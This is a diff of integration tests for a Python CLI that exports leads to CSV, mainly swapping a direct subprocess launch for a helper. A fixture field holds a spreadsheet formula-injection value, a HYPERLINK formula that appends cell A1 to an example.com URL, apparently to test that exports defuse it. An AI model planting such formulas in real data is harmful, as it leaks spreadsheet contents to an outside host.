@@ -24,6 +24,7 @@ from publitrac_async.cli.workbook import Workbook, check_rows
 from publitrac_async.sandbox import Fault, Sandbox
 from tests.integration.cli.conftest import Beside
 from tests.integration.cli.test_command_line import CANARIES, ROOT, command, environment, run, secrets
+from tests.support.commands import start_command
 
 TRICKY = {
     "firstName": '=HYPERLINK("http://example.com?"&A1,"x")',
@@ -223,10 +224,10 @@ async def test_what_came_before_an_error_is_kept_and_a_later_page_brings_the_res
 async def test_an_interruption_keeps_what_there_is(sandbox: Sandbox, tmp_path: Path) -> None:
     seed_many(sandbox, 350)
     sandbox.inject(Fault("delay", match="v1.getLeads", seconds=30, after=2, times=None))
-    process = await asyncio.create_subprocess_exec(
-        *command("export", tmp_path / "leads.csv"),
-        stderr=asyncio.subprocess.PIPE,
-        env=environment(**secrets(), PUBLITRAC_BASE_URL=sandbox.base_url),
+    process = await start_command(
+        *("export", tmp_path / "leads.csv"),
+        cwd=tmp_path,
+        variables=environment(**secrets(), PUBLITRAC_BASE_URL=sandbox.base_url),
     )
     while sandbox.journal.count(method="getLeads") < 3:
         await asyncio.sleep(0.005)
